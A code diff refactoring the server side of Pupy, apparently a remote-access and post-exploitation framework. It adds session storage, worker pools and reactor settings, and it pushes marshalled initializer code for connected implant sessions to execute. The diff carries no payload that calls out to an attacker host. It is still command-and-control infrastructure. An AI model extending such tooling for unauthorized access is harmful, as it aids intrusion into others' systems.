@@ -20,13 +20,16 @@ import pkgutil
 import modules
 import logging
 from .PupyErrors import PupyModuleExit, PupyModuleError
-from .PupyJob import PupyJob
+from .PupyJob import PupyJob, JobPool
 from .PupyCmd import color_real
 from .PupyCategories import PupyCategories
+from .PupySessions import SessionStore
 from network.conf import transports
 from pupylib.utils.rpyc_utils import obtain
 from .PupyTriggers import on_connect
 from network.lib.utils import parse_transports_args
+from network.lib.servers import PupyTCPServer, PupyUDPServer
+from network.lib.reactor import WorkerPool
 from network.lib.base_launcher import LauncherError
 from os import path
 from shutil import copyfile
@@ -48,11 +51,9 @@ class PupyServer(threading.Thread):
         self.daemon=True
         self.server=None
         self.authenticator=None
-        self.clients=[]
+        self.sessions=SessionStore()
         self.jobs={}
         self.jobs_id=1
-        self.clients_lock=threading.Lock()
-        self.current_id=1
         self.config = configparser.ConfigParser()
         if not path.exists('pupy.conf'):
             copyfile(
@@ -85,6 +86,17 @@ class PupyServer(threading.Thread):
                 self.transport='ssl'
         else:
             self.transport = transport
+        try:
+            job_workers=self.config.getint("pupyd", "job_workers")
+        except (configparser.NoOptionError, ValueError):
+            job_workers=32
+        self.job_pool=JobPool(job_workers)
+        try:
+            registration_workers=self.config.getint("pupyd", "registration_workers")
+        except (configparser.NoOptionError, ValueError):
+            registration_workers=16
+        self.registration=WorkerPool(registration_workers, 'PupyRegistration')
+        self.initializer=None
         self.handler=None
         self.handler_registered=threading.Event()
         self.transport_kwargs=transport_kwargs
@@ -95,95 +107,96 @@ class PupyServer(threading.Thread):
         self.handler=instance
         self.handler_registered.set()
 
+    def get_initializer(self):
+        """ PupyClientInitializer.py compiled once and marshalled, as sent to the clients """
+        if self.initializer is None:
+            with open(path.join(path.dirname(__file__), 'PupyClientInitializer.py')) as initializer:
+                self.initializer=marshal.dumps(compile(initializer.read(), '<loader>', 'exec'))
+        return self.initializer
+
     def add_client(self, conn):
-        pc=None
-        with open(path.join(path.dirname(__file__), 'PupyClientInitializer.py')) as initializer:
-            conn.execute(
-                'import marshal;exec marshal.loads({})'.format(
-                    repr(marshal.dumps(compile(initializer.read(), '<loader>', 'exec')))
-                )
-            )
-
-        l=conn.namespace["get_uuid"]()
-
-        with self.clients_lock:
-            client_info = {
-                "id": self.current_id,
-                "conn" : conn,
-                "address" : conn._conn._config['connid'].rsplit(':',1)[0],
-                "launcher" : conn.get_infos("launcher"),
-                "launcher_args" : obtain(conn.get_infos("launcher_args")),
-                "transport" : obtain(conn.get_infos("transport")),
-                "daemonize" : (True if obtain(conn.get_infos("daemonize")) else False),
-            }
-            client_info.update(l)
-            pc=PupyClient.PupyClient(client_info, self)
-            self.clients.append(pc)
-            if self.handler:
-                addr = conn.modules['pupy'].get_connect_back_host()
-                server_ip, server_port = addr.rsplit(':', 1)
-                try:
-                    client_ip, client_port = conn._conn._config['connid'].rsplit(':', 1)
-                except:
-                    client_ip, client_port = "0.0.0.0", 0 # TODO for bind payloads
-
-                self.handler.display_srvinfo("Session {} opened ({}:{} <- {}:{})".format(
-                    self.current_id, server_ip, server_port, client_ip, client_port))
-            self.current_id += 1
-        if pc:
-            on_connect(pc)
+        """ called when a session connects: it is registered by a worker, not by the
+        thread which accepted it """
+        self.registration.submit(self._register_client, conn)
+
+    def _session_info(self, conn):
+        """ what the client tells about itself, one request for the clients which have
+        get_session_info, a request per field for the older ones """
+        try:
+            return dict(conn._conn.root.get_session_info(self.get_initializer()))
+        except AttributeError:
+            pass
+
+        conn.execute('import marshal;exec marshal.loads({})'.format(repr(self.get_initializer())))
+        info=dict(obtain(conn.namespace["get_uuid"]()))
+        info.update(
+            launcher=conn.get_infos("launcher"),
+            launcher_args=obtain(conn.get_infos("launcher_args")),
+            transport=obtain(conn.get_infos("transport")),
+            daemonize=(True if obtain(conn.get_infos("daemonize")) else False),
+            connect_back_host=conn.modules['pupy'].get_connect_back_host(),
+        )
+        return info
+
+    def _register_client(self, conn):
+        client_info=self._session_info(conn)
+        connect_back_host=client_info.pop("connect_back_host", None)
+        has_pupyimporter=client_info.pop("pupyimporter", None)
+        if client_info["launcher_args"] is not None:
+            client_info["launcher_args"]=list(client_info["launcher_args"])
+        client_info.update(
+            conn=conn,
+            address=conn._conn._config['connid'].rsplit(':',1)[0],
+        )
+
+        client_info["id"]=self.sessions.next_id()
+        pc=PupyClient.PupyClient(client_info, self, has_pupyimporter)
+        self.sessions.add(pc)
+        if conn._conn.closed:
+            # gone before it was registered, remove_client may not have seen it
+            self.sessions.remove(conn)
+            return
+
+        if self.handler:
+            server_ip, server_port = (connect_back_host or "0.0.0.0:0").rsplit(':', 1)
+            try:
+                client_ip, client_port = conn._conn._config['connid'].rsplit(':', 1)
+            except:
+                client_ip, client_port = "0.0.0.0", 0 # TODO for bind payloads
+
+            self.handler.display_srvinfo("Session {} opened ({}:{} <- {}:{})".format(
+                client_info["id"], server_ip, server_port, client_ip, client_port))
+
+        on_connect(pc)
 
     def remove_client(self, client):
-        with self.clients_lock:
-            for i,c in enumerate(self.clients):
-                if c.conn is client:
-                    if self.handler:
-                        self.handler.display_srvinfo('Session {} closed'.format(self.clients[i].desc['id']))
-                    del self.clients[i]
-                    break
+        pc=self.sessions.remove(client)
+        if pc and self.handler:
+            self.handler.display_srvinfo('Session {} closed'.format(pc.desc['id']))
+
+    def renumber_client(self, client, id):
+        """ a migrated session takes the id of the one it replaces """
+        self.sessions.renumber(client, id)
+
+    @property
+    def clients(self):
+        return self.sessions.list()
 
     def get_clients(self, search_criteria):
-        """ return a list of clients corresponding to the search criteria. ex: platform:*win* """
+        """ return a list of clients corresponding to the search criteria. ex: platform:win
+        user:root, or an id. See SessionStore.find """
         #if the criteria is a simple id we return the good client
         try:
-            index=int(search_criteria)
-            for c in self.clients:
-                if int(c.desc["id"])==index:
-                    return [c]
-            return []
-        except Exception:
+            client=self.sessions.get(int(search_criteria))
+            return [client] if client else []
+        except (ValueError, TypeError):
             pass
-        l=set([])
         if search_criteria=="*":
-            return self.clients
-        for c in self.clients:
-            take=False
-            for sc in search_criteria.split():
-                tab=sc.split(":",1)
-                if len(tab)==2 and tab[0] in [x for x in c.desc.iterkeys()]:#if the field is specified we search for the value in this field
-                    take=True
-                    if not tab[1].lower() in str(c.desc[tab[0]]).lower():
-                        take=False
-                        break
-                elif len(tab)!=2:#if there is no field specified we search in every field for at least one match
-                    take=False
-                    for k,v in c.desc.iteritems():
-                        if type(v) is unicode or type(v) is str:
-                            if tab[0].lower() in v.decode('utf8').lower():
-                                take=True
-                                break
-                        else:
-                            if tab[0].lower() in str(v).decode('utf8').lower():
-                                take=True
-                                break
-                    if not take:
-                        break
-            if take:
-                l.add(c)
-        return list(l)
+            return self.sessions.list()
+        return self.sessions.find(search_criteria)
 
     def get_clients_list(self):
-        return self.clients
+        return self.sessions.list()
 
     def iter_modules(self):
         """ iterate over all modules """
@@ -296,8 +309,25 @@ class PupyServer(threading.Thread):
         except Exception as e:
             logging.exception(e)
 
+        server_kwargs={}
+        if issubclass(t.server, PupyTCPServer):
+            try:
+                server_kwargs["reactor"]=self.config.getboolean("pupyd", "reactor")
+                server_kwargs["reactor_threads"]=self.config.getint("pupyd", "reactor_threads")
+                server_kwargs["reactor_workers"]=self.config.getint("pupyd", "reactor_workers")
+                server_kwargs["handshake_workers"]=self.config.getint("pupyd", "handshake_workers")
+                server_kwargs["handshake_timeout"]=self.config.getint("pupyd", "handshake_timeout")
+            except (configparser.NoOptionError, ValueError):
+                pass
+        elif issubclass(t.server, PupyUDPServer):
+            try:
+                server_kwargs["shards"]=self.config.getint("pupyd", "udp_shards")
+                server_kwargs["workers"]=self.config.getint("pupyd", "udp_workers")
+            except (configparser.NoOptionError, ValueError):
+                pass
+
         try:
-            self.server = t.server(PupyService.PupyService, port = self.port, hostname=self.address, authenticator=authenticator, stream=t.stream, transport=t.server_transport, transport_kwargs=t.server_transport_kwargs, ipv6=self.ipv6)
+            self.server = t.server(PupyService.PupyService, port = self.port, hostname=self.address, authenticator=authenticator, stream=t.stream, transport=t.server_transport, transport_kwargs=t.server_transport_kwargs, ipv6=self.ipv6, **server_kwargs)
             self.server.start()
         except Exception as e:
             logging.exception(e)